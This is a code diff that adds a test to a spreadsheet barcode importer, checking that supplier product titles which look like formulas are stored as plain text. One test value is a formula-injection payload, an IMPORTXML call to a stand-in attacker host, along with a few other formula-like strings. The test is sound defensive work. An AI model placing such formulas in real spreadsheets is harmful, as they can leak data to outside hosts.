@@ -274,6 +274,21 @@ describe('barcodes to fill in', () => {
     expect(cellsOf(sheet, id)).toHaveLength(4);
   });
 
+  it('come in with titles that look like formulas as texts, as a supplier may write anything', async () => {
+    const titles = ['=IMPORTXML("https://thief.example","//a")', '+1', '-1+1', '@A1'];
+    const codes = [UPC, EAN, upcOf(1), upcOf(2)];
+    const sheet = sheetOf([
+      ['Code', 'Product name'],
+      ...codes.map((code, at) => [code, titles[at] ?? '']),
+    ]);
+    await open(sheet);
+    expect(await press()).toBe(codes.length);
+    const id = tabIn(sheet);
+    expect(cellsOf(sheet, id).slice(1)).toEqual(codes.map((code, at) => [code, '', titles[at]]));
+    const all = { row: 1, column: 1, rowCount: codes.length + 1, columnCount: 3 };
+    expect(sheet.grid.formulas(id, all).flat().join('')).toBe('');
+  });
+
   it('come into a tab that somebody made, under its own titles, beside what is noted there', async () => {
     const sheet = sheetOf([['UPC'], [UPC], [EAN]]);
     const id = withTab(sheet, [['mine', A, EAN]], ['Note', ' asin ', 'BARCODE']);
